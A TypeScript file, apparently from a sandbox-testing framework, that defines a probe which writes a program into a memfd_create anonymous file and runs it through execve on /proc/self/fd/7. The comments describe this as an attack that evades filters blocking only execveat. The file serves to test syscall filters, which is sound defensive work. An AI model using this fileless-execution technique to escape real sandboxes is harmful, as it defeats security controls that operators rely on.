/**
 * Executes a file in memory by the name that its descriptor has below /proc: where execveat(2) is refused, execve(2) does as well. The
 * name leads to the file itself, so that noexec of /proc says nothing. Facts: memfd_create(2), proc_pid_fd(5).
 */
import { bytes, call, number, reporter, resultOf, step, text } from "../act.ts";
import type { Probe } from "../probe.ts";

/** A descriptor that is still free, so that its name is known. */
const DESCRIPTOR = 7;

/** The attack: run a program from anonymous memory by a name. */
export const runMemoryByName: Probe = {
  id: "run-memory-by-name",
  title: "run a program from anonymous memory by its name in /proc",
  gain: "Any tool, around filters that know only execveat.",
  goals: ["own-program"],
  steps: () => {
    const program = reporter(3);
    const path = `/proc/self/fd/${DESCRIPTOR}`;
    const argv = { kind: "pointers", to: [text("x"), number(0)] } as const;
    return [
      step("memory", call("memfd_create", text("x"), number(0))),
      step("write", call("write", resultOf("memory"), bytes(program), number(program.length)), [], {
        atLeast: program.length,
      }),
      step("name", call("dup3", resultOf("memory"), number(DESCRIPTOR), number(0)), [], { exactly: DESCRIPTOR }),
      step("run", call("execve", text(path), argv, number(0)), [{ kind: "path", path, access: "look" }]),
    ];
  },
};
